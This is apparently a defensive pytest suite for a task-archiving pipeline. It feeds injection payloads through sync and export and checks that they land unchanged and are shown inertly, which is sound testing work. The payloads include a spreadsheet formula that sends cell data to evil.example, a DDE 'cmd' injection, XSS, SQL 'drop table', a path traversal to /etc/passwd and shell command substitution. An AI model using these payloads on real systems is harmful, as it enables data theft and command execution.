"""Hostile payloads through the whole job and everything that shows them: nothing is lost, no other task is harmed, what
does not fit is in quarantine, and what is shown runs nowhere."""

import csv
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import dagster as dg
import duckdb
import pytest

from pipelines.simulator import Simulator

pytestmark = pytest.mark.slow

MEGABYTES = 10
BIG = MEGABYTES * 1_000_000
DEEP, BOTTOMLESS = 500, 100_000
PROFILES = 100_000
MOST_EXTRA_MEBIBYTES = 1200  # above what the same sync takes without the big payloads
DAY_MS = 86_400_000

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>|[x](javascript:alert(3))"
ESCAPES = "\x1b]0;title\x07\x1b[2J\x9b31m\x7f\u202eexe.\u2028"
SQL = "'); drop table tasks; --"
SHOWN = {"formula": FORMULA, "minus": "-2+3+cmd|' /C calc'!A0", "at": "@SUM(1+1)", "tab": "\t=1+1", "cr": "\r=1+1",
         "script": SCRIPT, "escapes": ESCAPES, "sql": SQL, "template": "{{7*7}} ${7*7} %s %(x)s \\N"}  # fmt: skip

IDS = [
    "it's", 'say "id"', SQL, "../../../etc/passwd", "..", ".", "a/b\\c", "C:\\x", "%2e%2e%2f", "?limit=1&x=y", "#top",
    "=1+1", "+1", "-1", "--help", "@cmd", "<script>alert(1)</script>", "a|b", "`id`", "$(id)",
    "x" * 1000, " blank ", "undefined", "null", "skip10", "*", "%", "_", "[0]", ":warning:", "[red]x[/red]",
]  # fmt: skip
# Beyond the id that the paging by id is probed with: no id of the API's kind is.
FAR_IDS = ["{}", "~", "\u65e5\u672c", "\U0001f44d"]


def nested(depth: int) -> str:
    return "[" * depth + "1" + "]" * depth


class Hostile:
    """Bodies for rows of the simulator, by what is wrong with them. `misfits`: so many values go to quarantine."""

    def __init__(self, task: dict[str, Any]) -> None:
        self.task = task
        self.bodies: dict[str, Callable[[str], str]] = {}
        self.misfits: dict[str, int] = {}

    def add(self, name: str, misfits: int = 0, **changes: Any) -> None:
        """A task with fields set."""
        self.bodies[name] = lambda task_id: json.dumps({**self.task, **changes, "id": task_id}, ensure_ascii=False)
        self.misfits[name] = misfits

    def add_text(self, name: str, field: str, text: str, misfits: int = 0) -> None:
        """A task with a further field, or one given twice, as JSON text."""
        whole = json.dumps(self.task, ensure_ascii=False)
        self.bodies[name] = lambda task_id: (
            whole.replace(json.dumps(self.task["id"]), json.dumps(task_id), 1).removesuffix("}")
            + f', "{field}": {text}}}'
        )
        self.misfits[name] = misfits


def hostile_bodies(task: dict[str, Any]) -> Hostile:
    """Of an upload that completed."""
    made = Hostile(task)
    status, upload = task["status"], task["params"]["upload"]
    asset = task["output"]["upload"]["assetSpec"]

    def failed(**fields: Any) -> dict[str, Any]:
        return {"status": {**status, "phase": "failed", **fields}}

    def params(**fields: Any) -> dict[str, Any]:
        return {"params": {"upload": {**upload, **fields}}}

    def output(**fields: Any) -> dict[str, Any]:
        return {"output": {"upload": {"assetSpec": {**asset, **fields}}}}

    made.add("10 MB text", **failed(errorMessage="x" * BIG))
    made.add("10 MB of quotes", **failed(errorMessage='"\\' * (BIG // 2)))
    made.add("10 MB address", **params(url="https://example.com/" + "a/" * (BIG // 2)))
    made.add("10 MB of another alphabet", **failed(errorMessage="\u65e5" * (BIG // 3)))
    made.add_text("10 MB unknown", "surprise", json.dumps("?" * BIG))
    made.add_text("1 MB key", "k" * 1_000_000, "1")
    made.add_text("deep unknown", "surprise", nested(DEEP))
    made.add(
        "deep JSON", **{"params": {"upload": upload, "export": {"ipfs": {"nftMetadata": json.loads(nested(DEEP))}}}}
    )
    made.add("100,000 profiles", **params(profiles=[{"name": f"p{n}", "width": n} for n in range(PROFILES)]))
    made.add("NUL", **failed(errorMessage="a\0b"))
    made.add("NUL in JSON", **{"params": {"upload": upload, "export": {"ipfs": {"nftMetadata": {"a\0": "\0b"}}}}})
    made.bodies["lone surrogate"] = lambda i: json.dumps({**task, "id": i, **failed(errorMessage="\ud800 half")})
    made.misfits["lone surrogate"] = 1
    made.bodies["lone surrogate in a key"] = lambda i: json.dumps({**task, "id": i, "\udc00": "half"})
    made.misfits["lone surrogate in a key"] = 0
    for name, number, misfits in [
        ("2^63", "9223372036854775808", 1), ("-2^63 - 1", "-9223372036854775809", 1), ("1e400", "1e400", 1),
        ("NaN", "NaN", 1), ("Infinity", "-Infinity", 1), ("half", "29.97", 1), ("1e3", "1e3", 0), ("-0", "-0", 0),
        ("a number of 5,000 digits", "9" * 5000, 1), ("text for a number", '"7"', 1), ("true for a number", "true", 1),
    ]:  # fmt: skip
        size = json.dumps({**task, **output(size=123454321)}, ensure_ascii=False)
        made.bodies[name] = lambda i, size=size, number=number: size.replace("123454321", number).replace(
            json.dumps(task["id"]), json.dumps(i), 1
        )
        made.misfits[name] = misfits
    for name, text in [
        ("lone surrogate", '"\\ud800"'),
        ("NaN", "[NaN]"),
        ("Infinity", "-Infinity"),
        ("1e999", "1e999"),
    ]:
        whole = json.dumps(
            {**task, "params": {"upload": upload, "exportData": {"content": "HERE"}}}, ensure_ascii=False
        )
        made.bodies[f"{name} in free-form JSON"] = lambda i, whole=whole, text=text: whole.replace(
            '"HERE"', text
        ).replace(json.dumps(task["id"]), json.dumps(i), 1)
        made.misfits[f"{name} in free-form JSON"] = int(name != "1e999")
        made.add_text(f"{name}, unknown", "surprise", text)
    made.add_text("given twice", "status", json.dumps({**status, "phase": "failed"}), misfits=1)
    made.add_text("the id given twice", "userId", '"another"', misfits=1)
    made.add_text("another case", "Status", json.dumps({"phase": "failed"}))
    made.bodies["another case only"] = lambda i: json.dumps(
        {"id": i, "Type": "upload", "CREATEDAT": 1, "Params": {"Upload": {"URL": "u"}}, "STATUS": {"Phase": "failed"}}
    )
    made.misfits["another case only"] = 0
    for name, creator, misfits in [
        ("text", "someone", 0), ("object", {"type": "unverified", "value": "someone"}, 0), ("empty object", {}, 0),
        ("number", 7, 0), ("list", ["someone"], 0), ("formula", {"type": "x", "value": FORMULA}, 0),
    ]:  # fmt: skip
        made.add(f"creatorId as {name}", misfits, **output(creatorId=creator))
    for name, at, misfits in [
        ("text", "2024-05-01T12:00:00Z", 1), ("digits in text", "1714564800000", 1), ("seconds", 1_714_564_800, 0),
        ("negative", -1, 0), ("the year 9999", 253_402_300_799_999, 0), ("beyond it", 253_402_300_800_000, 1),
        ("microseconds", 1_714_564_800_000_000, 0), ("a fraction", 1_714_564_800_000.5, 1), ("before Christ", -1e15, 1),
        ("the year 1", -62_135_596_800_000, 0), ("true", True, 1), ("an object", {}, 1),
    ]:  # fmt: skip
        # Of scheduledAt, which the server neither sorts nor filters by: see the next test for the others.
        made.add(f"time as {name}", misfits if name != "microseconds" else 1, scheduledAt=at)
    for name, value in [("a list", []), ("text", "x"), ("a number", 1), ("true", True)]:
        made.add(f"status as {name}", 1, status=value)
        made.add(f"params as {name}", 1, params=value)
        made.add(f"output as {name}", 1, output=value)
    made.add("all null", **{key: None for key in task if key != "id"})
    made.add("profiles as an object", 1, **params(profiles={"0": {}}))
    made.add("null among profiles", **params(profiles=[None, {"name": "p", "width": 1}, None]))
    for name, text in SHOWN.items():
        made.add(f"shown: {name}", **failed(errorMessage=text))
        made.add_text(f"unknown, shown: {name}", json.dumps(text)[1:-1], json.dumps(text))
    return made


class Command:
    """The command on a home of its own; measures the most memory that it took."""

    def __init__(self, simulator: Simulator, home: Path) -> None:
        self.home = home
        self.environment = os.environ | {
            "LIVEPEER_API_URL": simulator.url,
            "LIVEPEER_API_KEY": simulator.api_key,
            "TASK_ARCHIVE_HOME": str(home),
            "TASK_ARCHIVE_RETRY_WAIT_SECONDS": "0",
            "PYTHONUTF8": "1",
        }
        self.mebibytes = 0.0
        self.said = ""

    def __call__(self, *arguments: str, status: int = 0) -> str:
        out, err = self.home.with_suffix(".out"), self.home.with_suffix(".err")
        with out.open("wb") as stdout, err.open("wb") as stderr:
            process = subprocess.Popen(
                [sys.executable, "-m", "pipelines.cli", *arguments], env=self.environment, stdout=stdout, stderr=stderr
            )
            _, code, usage = os.wait4(process.pid, 0)
        process.returncode = os.waitstatus_to_exitcode(code)
        self.mebibytes = usage.ru_maxrss / 1024
        said, complained = out.read_bytes().decode(), err.read_bytes().decode()
        self.said = said + complained
        assert process.returncode == status, f"{arguments}: {process.returncode}\n{self.said[-3000:]}"
        assert "Traceback" not in self.said
        return said


def is_calm(text: str) -> bool:
    """Whether nothing in it would move a terminal's cursor or more."""
    return not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u202e\ud800-\udfff]", text)


def test_hostile_payloads_through_the_whole_job(
    simulate: Callable[..., Simulator],
    archive: Callable[..., Any],
    tmp_path: Path,
    figure: Callable[..., None],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    sim = simulate(tasks=300, speed=0, now=None)
    plain = Command(sim, tmp_path / "plain")
    plain("sync")

    template = next(
        task
        for _, task in sorted(sim.tasks().items())
        if task["type"] == "upload" and task["status"]["phase"] == "completed" and "url" in task["params"]["upload"]
    )
    made = hostile_bodies(template)
    old = [row.id for row in sim._listed("default") if (row.updated_at or 0) < sim.now() - DAY_MS]
    places = dict(zip(made.bodies, old, strict=False))
    for name, task_id in places.items():
        sim.put_raw(task_id, made.bodies[name](task_id).encode("utf-8", "surrogatepass"))
    nameless = [b"{}", b"null", b"[]", b'"text"', b"17", b'{"id":null}', b'{"id":["x"]}', b'{"id":"\\ud800"}']
    nameless.append(b'{"id":"x","deep":%b}' % nested(BOTTOMLESS).encode())  # too deep for any parser to find the id
    for task_id, body in zip(old[len(places) :], nameless, strict=False):
        sim.put_raw(task_id, body)
    for task_id in IDS:
        sim.insert(template | {"id": task_id, "name": "odd id"})
    healthy = sim.ids() - set(old[: len(places) + len(nameless)])

    command = Command(sim, tmp_path / "hostile")
    command("sync")
    assert "whole" in command.said
    extra = command.mebibytes - plain.mebibytes
    assert extra < MOST_EXTRA_MEBIBYTES
    kept = archive(sim, home="hostile", fingerprint_key=(command.home / "fingerprint.key").read_text())
    landed = {row["task_id"]: row["payload"] for row in kept.rows() if row["task_id"] is not None}
    from pipelines.livepeer.redact import Redactor

    redact = Redactor((command.home / "fingerprint.key").read_bytes(), sim.api_keys.values()).redact
    for name, task_id in places.items():
        assert landed[task_id] == redact(sim._row(task_id).body).decode("utf-8", "surrogatepass"), name
    assert healthy | set(places.values()) == landed.keys()
    assert {row["payload"].encode() for row in kept.rows() if row["task_id"] is None} == set(nameless)

    with duckdb.connect(str(command.home / "published" / "task_archive.duckdb"), read_only=True) as connection:
        found = {row[0] for row in connection.execute("select task_id from tasks").fetchall()}
        assert found == healthy | set(places.values())
        in_quarantine = dict(connection.execute("select task_id, count(*) from quarantine group by task_id").fetchall())
        misfits = {name: in_quarantine.get(task_id, 0) for name, task_id in places.items()}
        assert misfits == made.misfits
        assert in_quarantine.get(None, 0) == len(nameless)
        assert not in_quarantine.keys() - {None} - set(places.values())
        profiles = connection.execute(
            "select count(*), max(position) from profiles where task_id = ?", [places["100,000 profiles"]]
        ).fetchall()
        assert profiles == [(PROFILES, PROFILES - 1)]
        longest = connection.execute("select max(strlen(error_message)) from tasks").fetchall()
        assert longest == [(BIG,)]
        shown = dict(connection.execute("select task_id, error_message from tasks").fetchall())
        for name, text in SHOWN.items():
            assert shown[places[f"shown: {name}"]] == text
        nul = connection.execute("select count(*) from tasks where error_message = 'a' || chr(0) || 'b'").fetchall()
        assert nul == [(1,)]

    figure(
        "hostile payloads and ids", len(places) + len(nameless) + len(IDS), "all landed as sent, no other task harmed"
    )
    figure("values that did not fit a column", sum(made.misfits.values()) + len(nameless), "each a row of quarantine")
    figure("memory beyond that of plain payloads, MiB", round(extra), f"five payloads of {MEGABYTES} MB on one page")

    check_what_is_shown(command)
    check_ids(command, sim, monkeypatch)
    command("sync")
    assert "0 new, 0 changed" in command.said
    command("sync", "--lane", "sweep")
    assert "0 new, 0 changed" in command.said


def check_what_is_shown(command: Command) -> None:
    """CSV, JSON, table, Parquet, status, verify and Dagster."""
    short = "select * from tasks where length(error_message) < 1000 or error_message is null"
    csv.field_size_limit(2 * BIG)
    file = command.home / "tasks.csv"
    tables = {"tasks": short, "quarantine": "from quarantine", "drift": "from drift", "loads": "from loads"}
    for sql in tables.values():
        command("query", sql, "--format", "csv", "--output", str(file))
        text = file.read_bytes().decode()
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell[:100]
                assert not cell.startswith("-") or re.fullmatch(r"-[\d.]+(e[+-]?\d+)?", cell), cell[:100]
        lines = command("query", sql, "--format", "json").split("\n")[:-1]
        assert all(isinstance(json.loads(line), dict) for line in lines)
        assert is_calm("".join(lines))
        assert is_calm(command("query", sql))
        parquet = command.home / "tasks.parquet"
        command("query", sql, "--format", "parquet", "--output", str(parquet))
        assert duckdb.sql(f"select count(*) from '{parquet}'").fetchall() == [(len(lines),)]
    as_json = {
        row["error_message"] for row in map(json.loads, command("query", short, "--format", "json").splitlines())
    }
    assert set(SHOWN.values()) <= as_json
    for arguments in (["status"], ["status", "--json"], ["verify", "--landing"], ["doctor"]):
        command(*arguments)
        assert is_calm(command.said)
    command("verify", status=3)  # these payloads are not what the server sorts and counts by
    assert is_calm(command.said)


def check_ids(command: Command, sim: Simulator, monkeypatch: pytest.MonkeyPatch) -> None:
    """Ids that are made to be something else lead to their tasks and nowhere else."""
    asked = len(sim.requests)
    command("refresh", "--", *IDS)
    paths = [recorded.path for recorded in sim.requests[asked:]]
    assert len(paths) == len(IDS)
    assert all(re.fullmatch(r"/api/task/[^/?#]+", path) for path in paths)
    assert all(recorded.status == 200 for recorded in sim.requests[asked:])
    command("refresh", f"{SCRIPT}", status=3)
    assert is_calm(command.said)
    for no_id in ("", "a\x1bb", "\x7f"):
        command("refresh", "--", no_id, status=2)
    command("status")
    monkeypatch.setenv("DAGSTER_HOME", str(command.home / "dagster"))
    with dg.DagsterInstance.get() as instance:
        event = instance.get_latest_materialization_event(dg.AssetKey(["landing", "tasks"]))
        assert event is not None
        assert event.asset_materialization is not None
        markdown = str(event.asset_materialization.metadata["loads"].value)
    assert "alert" in markdown
    assert not re.search(r"<script|<img|\]\(javascript", markdown)
    assert len(markdown.splitlines()) == 3
    assert {line.count("|") for line in markdown.splitlines()} == {9}


def test_ids_that_sort_behind_every_id(simulate: Callable[..., Simulator], archive: Callable[..., Any]) -> None:
    """They look like a server that cannot page by id: all is read, and the proof says what it cannot prove."""
    sim = simulate(tasks=30, speed=0)
    for task_id in FAR_IDS:
        sim.insert(id=task_id, name="odd id")
    kept = archive(sim, page_size=3)
    for _ in range(2):
        load = kept.sync()
        assert (load.verdict, len(load.reasons)) == ("limited", 1)
        assert kept.landed() == kept.expected()
    assert load.rows_landed == 0


@pytest.mark.parametrize(
    "at", [0, -1, 1_714_564_800, 253_402_300_799_999, 253_402_300_800_000, 1_714_564_800_000_000, 2**53 - 1]
)
@pytest.mark.parametrize("rows", [1, 7])
def test_times_that_no_clock_shows(
    simulate: Callable[..., Simulator], archive: Callable[..., Any], at: int, rows: int
) -> None:
    """The server sorts and filters by them as it does by any: whole pages of them stop no lane."""
    sim = simulate(tasks=30, speed=0)
    kept = archive(sim, page_size=3)
    kept.sync()
    sim.advance(7200)
    for number in range(rows):
        sim.insert(name=f"odd {number}", createdAt=at, status={"phase": "completed", "updatedAt": at})
    for lane in ("changes", "sweep", "changes", "changes"):
        load = kept.sync(lane)
        assert load.verdict == "whole", load.reasons
        assert load.lane == lane
    assert kept.landed() == kept.expected()
    assert load.rows_landed == 0
    assert kept.extraction().observe() is None
